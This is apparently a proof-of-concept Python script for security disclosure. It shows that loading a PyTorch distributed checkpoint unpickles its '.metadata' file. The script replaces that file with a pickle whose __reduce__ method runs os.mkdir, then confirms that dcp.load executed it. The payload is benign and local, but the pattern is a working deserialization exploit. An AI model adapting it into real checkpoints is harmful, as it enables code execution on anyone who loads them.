"""Reading a DCP folder unpickles `.metadata`, so a crafted one makes the loading process run code."""

# needs: torch
import contextlib
import logging
import os
import pickle
import tempfile
import warnings

import torch
import torch.distributed.checkpoint as dcp

warnings.filterwarnings("ignore")
logging.disable(logging.CRITICAL)
path = tempfile.mkdtemp()
dcp.save({"w": torch.ones(3)}, checkpoint_id=path)
first = open(path + "/.metadata", "rb").read(2)
print("first bytes of .metadata:", first.hex(" "), "(pickle)")
assert first == b"\x80\x04"


class Payload:
    def __reduce__(self):
        return os.mkdir, (path + "/made-by-payload",)


with open(path + "/.metadata", "wb") as file:
    pickle.dump(Payload(), file)
with contextlib.suppress(dcp.api.CheckpointException):
    dcp.load({"w": torch.zeros(3)}, checkpoint_id=path)
print("after dcp.load:", *sorted(os.listdir(path)))
assert "made-by-payload" in os.listdir(path)
